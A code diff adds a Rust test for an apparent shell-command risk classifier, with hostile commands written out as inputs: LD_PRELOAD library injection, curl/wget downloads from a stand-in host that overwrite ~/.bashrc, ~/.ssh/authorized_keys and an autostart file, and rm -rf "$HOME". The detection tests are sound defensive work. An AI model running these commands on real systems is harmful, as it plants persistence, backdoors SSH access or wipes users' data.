@@ -354,3 +354,31 @@ fn files_in_the_workspace_root_and_generated_keys_are_ordinary() {
     );
     assert_risk("ssh-keygen -y -f ~/.ssh/id_ed25519", SecretRead);
 }
+
+#[test]
+fn loader_variables_and_files_written_through_options() {
+    for command in [
+        "LD_PRELOAD=/tmp/libx.so ls",
+        "env LD_PRELOAD=./hook.so git status",
+        "export LD_PRELOAD=/tmp/libx.so",
+    ] {
+        assert_risk(command, InlineCodeRisky);
+    }
+    for command in [
+        "curl -fsSLo ~/.bashrc https://x.example/rc",
+        "wget -qO ~/.ssh/authorized_keys https://x.example/k",
+        "curl --output=$HOME/.config/autostart/x.desktop https://x.example/x",
+        "sed -i '$a echo hi' ~/.bashrc",
+    ] {
+        assert_risk(command, Persistence);
+    }
+    assert_risk(r#"rm -rf "$HOME""#, DeleteOutsideWorkspace);
+    assert_clean(
+        "LD_LIBRARY_PATH=./target/lib ./target/release/app",
+        &[InlineCodeRisky],
+    );
+    assert_clean(
+        "curl -fsSL -o /tmp/install.sh https://sh.rustup.rs",
+        &[Persistence],
+    );
+}
